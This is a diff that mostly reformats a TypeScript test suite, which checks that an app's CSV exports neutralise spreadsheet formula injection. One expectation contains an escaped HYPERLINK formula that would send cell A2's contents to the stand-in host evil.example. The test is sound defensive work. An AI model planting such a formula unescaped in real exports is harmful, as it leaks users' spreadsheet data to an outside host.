@@ -29,7 +29,12 @@ describe("CSV exports neutralise formulas (issue 15 item 15)", () => {
   });
 
   async function exported(input: Record<string, unknown>): Promise<string> {
-    const r = await gql<{ exportFile: { contentBase64: string } }>(app, EXPORT, { input: { purpose: "公式注入测试", format: "CSV", ...input } }, exec);
+    const r = await gql<{ exportFile: { contentBase64: string } }>(
+      app,
+      EXPORT,
+      { input: { purpose: "公式注入测试", format: "CSV", ...input } },
+      exec,
+    );
     expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
     return Buffer.from(r.data!.exportFile.contentBase64, "base64").toString("utf8");
   }
@@ -38,11 +43,15 @@ describe("CSV exports neutralise formulas (issue 15 item 15)", () => {
     const csv = await exported({ kind: "ESTATES" });
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""点此查看"")"`);
     // No cell of the file starts with a formula character.
-    const cells = csv.replace(/^\uFEFF/, "").split(/\r\n/).flatMap((line) => line.split(","));
+    const cells = csv
+      .replace(/^\uFEFF/, "")
+      .split(/\r\n/)
+      .flatMap((line) => line.split(","));
     expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
 
-    const body = await postFile<{ importFile: { __typename: string; data?: { totalRows: number; created: number; updated: number; unchanged: number } } }>(
-      app, exec, IMPORT, { kind: "ESTATES", dryRun: true }, csv, "estates.csv");
+    const body = await postFile<{
+      importFile: { __typename: string; data?: { totalRows: number; created: number; updated: number; unchanged: number } };
+    }>(app, exec, IMPORT, { kind: "ESTATES", dryRun: true }, csv, "estates.csv");
     expect(body.data?.importFile.__typename, JSON.stringify(body)).toBe("MutationImportFileSuccess");
     const d = body.data!.importFile.data!;
     expect(d).toMatchObject({ created: 0, updated: 0 });
@@ -51,8 +60,12 @@ describe("CSV exports neutralise formulas (issue 15 item 15)", () => {
 
   it("the customer export guards names too, masked or not", async () => {
     const [{ id }] = await q(`SELECT id FROM estates WHERE code = 'LX'`);
-    const r = await gql<{ exportCustomers: { content: string } }>(app, `query($e: ID!) { exportCustomers(estateId: $e, purpose: "公式注入测试") { content } }`,
-      { e: Buffer.from(`Estate:${id}`).toString("base64") }, exec);
+    const r = await gql<{ exportCustomers: { content: string } }>(
+      app,
+      `query($e: ID!) { exportCustomers(estateId: $e, purpose: "公式注入测试") { content } }`,
+      { e: Buffer.from(`Estate:${id}`).toString("base64") },
+      exec,
+    );
     expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
     const lines = r.data!.exportCustomers.content.split("\n");
     expect(lines.some((l) => l.includes("'@"))).toBe(true);
